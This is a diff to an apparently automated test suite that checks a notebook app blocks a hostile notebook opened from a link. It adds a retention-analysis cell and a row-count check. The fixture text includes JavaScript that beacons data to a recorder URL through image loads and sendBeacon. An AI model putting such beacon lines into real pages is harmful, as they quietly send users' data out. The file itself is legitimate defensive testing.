@@ -95,7 +95,8 @@ describe('a hostile notebook (issue 14)', () => {
       `new Image().src = '${REC}/js-image.gif';`,
       `navigator.sendBeacon('${REC}/js-beacon', 'd');`,
       "'sent?'",
-      '```',
+      '```', '',
+      '```retention id=weekly', '{"period": "week", "start_event": "signup", "intervals": 4}', '```',
     ].join('\n');
     await openLink(text, [{ name: 'shop-events.csv', sample: 'samples/shop-events.csv' }]);
     await expect(page.getByTestId('trust-banner').textContent()).resolves.toMatch(/came from a link/);
@@ -108,6 +109,7 @@ describe('a hostile notebook (issue 14)', () => {
     }
     const js = cell(2 + attacks.length);
     await expect(js.getByTestId('cell-error').textContent()).resolves.toMatch(/does not run until you trust this notebook/);
+    await expect(outcome(3 + attacks.length)).resolves.toMatch(/^\d+ rows$/);
     await nothingSent();
 
     // trusted, the JS runs, and the page's content security policy stops its requests
